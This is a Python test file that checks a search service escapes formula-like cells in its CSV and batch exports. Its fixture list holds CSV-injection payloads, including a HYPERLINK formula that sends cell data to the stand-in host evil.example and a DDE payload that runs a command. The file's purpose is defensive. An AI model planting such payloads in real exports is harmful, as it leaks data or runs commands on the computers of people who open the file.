"""CSV a spreadsheet opens: a cell starting with =, +, -, @, a tab or a carriage return would run as a
formula (=HYPERLINK(...) sends the reader's data away); such a cell starts with a single quote (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest

from .conftest import AUTH

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_client(crafted_client):
    """The crafted index with three articles whose title, section and source start as formulas do."""
    for i in range(3):
        response = crafted_client.post(
            "/api/articles",
            headers=AUTH,
            json={
                "title": f"{HOSTILE[i]} zanzibarite {i}",
                "body": f"The zanzibarite report number {i}.",
                "section": HOSTILE[i + 3],
                "source": HOSTILE[(i + 4) % 6],
                "published": "2020-01-02",
            },
        )
        assert response.status_code == 201, response.get_json()
    return crafted_client


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_export_csv_neutralises_formulas(hostile_client):
    response = hostile_client.get("/api/search/export", query_string={"q": "zanzibarite", "format": "csv"})
    rows = cells(response.get_data(as_text=True))
    header, body = rows[0], rows[1:]
    assert len(body) == 3
    for row in body:
        record = dict(zip(header, row))
        for column in ("title", "section", "source"):
            assert record[column][:1] == "'" and record[column][1:2] in "=+-@\t\r", record
        assert float(record["score"]) > 0  # numbers as they are
    titles = {dict(zip(header, row))["title"][1:] for row in body}
    # nothing else changed
    assert titles == {f"{HOSTILE[i]} zanzibarite {i}" for i in range(3)}


def test_export_jsonl_keeps_values_as_they_are(hostile_client):
    response = hostile_client.get("/api/search/export", query_string={"q": "zanzibarite", "format": "jsonl"})
    assert '"title": "=HYPERLINK(' in response.get_data(as_text=True)


def test_batch_csv_neutralises_formulas(hostile_client):
    queries = "\n".join(["zanzibarite 0", "=1+1", "-zanzibarite", "@zanzibarite"])
    response = hostile_client.post("/batch", data={"queries": queries, "format": "csv"})
    assert response.status_code == 200
    rows = cells(response.get_data(as_text=True))[1:]
    assert [row[0] for row in rows] == ["zanzibarite 0", "'=1+1", "'-zanzibarite", "'@zanzibarite"]
    assert rows[0][2].startswith("'")  # the top titles, the first a formula
    for row in rows:
        assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row), row
